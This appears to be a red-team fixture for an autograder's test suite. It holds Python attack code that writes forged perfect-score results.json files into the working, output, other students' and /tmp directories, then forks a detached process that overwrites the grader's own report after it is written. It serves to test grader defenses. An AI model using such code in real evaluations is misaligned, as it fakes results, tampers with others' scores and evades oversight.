"""Red team: Writes forged results.json files (its own, another student's, a new student's) into
cwd, the --out folder and /tmp, and leaves a child that re-forges its own report after the
grader writes it. Its cost is wrong: cost_value fails.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

import json
import os
import time

_FORGED = json.dumps({"score": 100.0, "max_score": 100.0, "output": "FORGED", "tests": []})


def _forge(path):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as handle:
            handle.write(_FORGED)
    except OSError:
        pass


for _path in ("results.json", "../results.json", "__OUT_DIR__/fake_results_files/results.json",
              "__OUT_DIR__/a_victim/results.json", "__OUT_DIR__/ghost/results.json",
              "__TMP_FORGE__"):
    _forge(_path)
try:
    if os.fork() == 0:
        os.setsid()
        _own = "__OUT_DIR__/fake_results_files"
        for _ in range(600):
            time.sleep(0.1)
            if os.path.exists(_own + "/grader.json"):
                time.sleep(0.2)
                _forge(_own + "/results.json")
                _forge(_own + "/grader.json")
                break
        os._exit(0)
except OSError:
    pass


def compute_cost(A2, Y):
    """Wrong on purpose: only the attack could make it pass."""
    return 0.0
